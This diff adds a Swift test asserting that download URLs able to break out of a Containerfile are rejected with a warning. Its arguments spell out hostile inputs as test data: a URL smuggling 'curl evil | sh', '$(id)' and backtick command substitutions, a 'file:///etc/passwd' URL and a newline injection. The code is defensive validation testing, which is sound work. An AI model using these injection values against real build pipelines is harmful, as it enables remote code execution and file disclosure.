@@ -241,6 +241,17 @@ import Testing
         #expect(log.entries.contains { $0.level == .warning && $0.message.contains("is not usable as a version name") })
     }
 
+    @Test(arguments: [#"https://cdn.test/x".deb; curl evil | sh; ".deb"#, "https://cdn.test/$(id).deb", "https://cdn.test/a b.deb",
+                      "https://cdn.test/x`id`.deb", "file:///etc/passwd", "https://cdn.test/x\n.deb"])
+    func aDownloadURLThatCouldBreakOutOfTheContainerfileExcludesTheOS(url: String) throws {
+        let image = try Self.image(Self.connectDaily)
+        let log = TargetLog()
+        let hostile = Self.document(["ubuntu-24.04": (Self.dailyBuild, url), "ubuntu-22.04": (Self.dailyBuild, "https://cdn.test/fine_amd64.deb")])
+        let version = try #require(try Self.loader([Self.daily: hostile]).load(image, log: log).first)
+        #expect(version.os.map(\.name) == ["Ubuntu 22.04"])
+        #expect(log.entries.contains { $0.level == .warning && $0.message.contains("is not a plain http(s) URL") })
+    }
+
     @Test(arguments: [
         (#"{"version": "2026.05.0-dev+185-g1a2b3c4", "channel": "daily"}"#, nil as String?),
         (#"{"release_branch": "2026.05"}"#, nil),
